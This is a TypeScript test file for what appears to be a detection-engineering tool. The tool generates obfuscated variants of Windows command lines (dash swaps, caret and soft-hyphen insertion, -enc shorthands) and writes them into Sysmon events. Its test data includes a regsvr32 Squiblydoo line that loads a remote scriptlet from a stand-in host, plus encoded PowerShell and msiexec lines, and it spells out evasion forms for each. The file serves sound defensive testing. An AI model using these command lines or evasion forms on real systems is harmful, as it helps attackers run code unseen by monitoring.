// Careless and hostile field values: whatever the command line, image and OriginalFileName hold
// (unbalanced quotes, control characters, XML metacharacters, any code point), variant generation
// never throws, every variant changes something and never OriginalFileName, and a variant rewritten
// into a Sysmon XML (or JSON) event reads back, through the engine's own reader, as exactly its fields.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import fc from 'fast-check';
import { parseLog } from '../../server/src/engine/readers/pipeline';
import { rewriteEvent } from '../../server/src/evasion/rewriteEvent';
import { generateVariants, MAX_VARIED_OPTIONS, optionsLeftOut } from '../../server/src/evasion/variants';

const template = readFileSync(resolve(__dirname, '../../samples/logs/msiexec_sysmon.log'), 'utf8').split('\n')[1];
const pieces = fc.constantFrom('msiexec.exe', '"', ' ', '  ', '/y', '-enc', '–y', '<', '&amp;', '\\', 'C:\\Windows\\System32\\', 'ʸ', '\t', 'powershell', '/l*v', '\u0000', '😀', '/');
const value = fc.oneof(fc.array(pieces, { maxLength: 8 }).map((p) => p.join('')), fc.string({ unit: 'grapheme', maxLength: 40 }));

/** XML 1.0 cannot carry these characters at all; a real event never holds them. */
const xmlSafe = (text: string) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(text) && !/[\ud800-\udfff]/.test(text.replace(/[\ud800-\udbff][\udc00-\udfff]/g, ''));

test('any command line, image and original name: variants are generated, each changes something, none touches OriginalFileName', () => {
  fc.assert(
    fc.property(value, value, fc.option(value, { nil: undefined }), (commandLine, image, original) => {
      const fields: Record<string, string | undefined> = { CommandLine: commandLine, Image: image, OriginalFileName: original };
      for (const variant of generateVariants((name) => fields[name])) {
        assert.ok(variant.changes.size > 0);
        assert.ok(!variant.changes.has('OriginalFileName'));
        assert.ok([...variant.changes].some(([name, text]) => fields[name] !== text), `${variant.technique} changes nothing`);
      }
    }),
    { numRuns: 500 },
  );
});

test('a rewritten XML event reads back with exactly the variant\'s fields, the others untouched', () => {
  fc.assert(
    fc.property(value.filter(xmlSafe), value.filter(xmlSafe), (commandLine, image) => {
      const base = rewriteEvent(template, new Map([['CommandLine', commandLine], ['Image', image]]));
      assert.ok(base.ok);
      const [original] = parseLog(base.raw + '\n').events;
      const read = (name: string) => {
        const v = original.fields.get(name);
        return Array.isArray(v) ? v[0] : v;
      };
      for (const variant of generateVariants(read)) {
        const rewritten = rewriteEvent(original.raw, variant.changes);
        assert.ok(rewritten.ok, rewritten.ok ? '' : rewritten.reason);
        const [event] = parseLog(rewritten.raw + '\n').events;
        for (const [name, text] of variant.changes) assert.equal(event.fields.get(name), text, `${variant.technique} ${name}`);
        assert.equal(event.fields.get('OriginalFileName'), original.fields.get('OriginalFileName'));
        assert.equal(event.fields.get('ParentCommandLine'), original.fields.get('ParentCommandLine'));
      }
    }),
    { numRuns: 200 },
  );
});

test('a JSON event: the variant\'s keys are rewritten in place, the rest kept', () => {
  const raw = JSON.stringify({ EventID: 1, CommandLine: 'powershell.exe -enc ZQBjAGgAbwA=', Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', OriginalFileName: 'PowerShell.EXE', User: 'bob' });
  const event = JSON.parse(raw) as Record<string, string>;
  const variants = generateVariants((name) => event[name]);
  assert.deepEqual(variants.filter((v) => v.technique === 'shorthand').map((v) => v.value), [
    'powershell.exe -e ZQBjAGgAbwA=', 'powershell.exe -ec ZQBjAGgAbwA=', 'powershell.exe -encodedcommand ZQBjAGgAbwA=',
  ]);
  assert.deepEqual(variants.filter((v) => v.technique === 'option-char-substitution').map((v) => v.value), [
    'powershell.exe /enc ZQBjAGgAbwA=', 'powershell.exe –enc ZQBjAGgAbwA=', 'powershell.exe —enc ZQBjAGgAbwA=', 'powershell.exe ―enc ZQBjAGgAbwA=',
  ]);
  assert.deepEqual(variants.filter((v) => v.technique === 'quote-insertion').map((v) => v.value), ['powershell.exe -e""nc ZQBjAGgAbwA=']);
  const rewritten = rewriteEvent(raw, variants[0].changes);
  assert.ok(rewritten.ok);
  assert.deepEqual(JSON.parse(rewritten.raw), { ...event, ...Object.fromEntries(variants[0].changes) });
  assert.deepEqual(rewriteEvent('{"CommandLine": 1', new Map([['CommandLine', 'x']])).ok, false);
  assert.deepEqual(rewriteEvent('{"Other": "x"}', new Map([['CommandLine', 'x']])), { ok: false, reason: 'the JSON event has no string field CommandLine to rewrite' });
});

test('a command line of 5,000 options varies the first 16 and says how many more there were', () => {
  const fields: Record<string, string> = { CommandLine: `msiexec.exe ${'/y '.repeat(5000)}x.dll`, Image: 'C:\\Windows\\System32\\msiexec.exe' };
  const variants = generateVariants((name) => fields[name]);
  assert.equal(variants.filter((v) => v.technique === 'option-char-substitution').length, MAX_VARIED_OPTIONS);
  assert.equal(optionsLeftOut((name) => fields[name]), 5000 - MAX_VARIED_OPTIONS);
});

test('regsvr32 (Squiblydoo): the dashes of lint\'s table and a soft hyphen after the option character, no case variant (ArgFuscator records none)', () => {
  const fields: Record<string, string> = { CommandLine: 'regsvr32 /s /i:http://x/a.sct scrobj.dll', Image: 'C:\\Windows\\System32\\regsvr32.exe' };
  const options = generateVariants((name) => fields[name]).filter((v) => v.option).map((v) => [v.technique, v.option!.to]);
  assert.deepEqual(options, [
    ['option-char-substitution', '-s'], ['option-char-substitution', '–s'], ['option-char-substitution', '—s'], ['option-char-substitution', '―s'],
    ['character-insertion', '/\u00ads'],
    ['option-char-substitution', '-i'], ['option-char-substitution', '–i'], ['option-char-substitution', '—i'], ['option-char-substitution', '―i'],
    ['character-insertion', '/\u00adi'],
  ]);
});

test('cmd.exe: a caret after the first letter of the command /c runs; none inside quotes, where cmd.exe keeps it', () => {
  const caret = (commandLine: string) => {
    const fields: Record<string, string> = { CommandLine: commandLine, Image: 'C:\\Windows\\System32\\cmd.exe' };
    return generateVariants((name) => fields[name]).filter((v) => v.technique === 'caret-insertion').map((v) => v.value);
  };
  assert.deepEqual(caret('cmd.exe /c msiexec.exe /y x.dll'), ['cmd.exe /c m^siexec.exe /y x.dll']);
  assert.deepEqual(caret('cmd /Q /K whoami'), ['cmd /Q /K w^hoami']);
  assert.deepEqual(caret('cmd.exe /c "msiexec.exe /y x.dll"'), []);
  assert.deepEqual(caret('cmd.exe /c'), []);
});
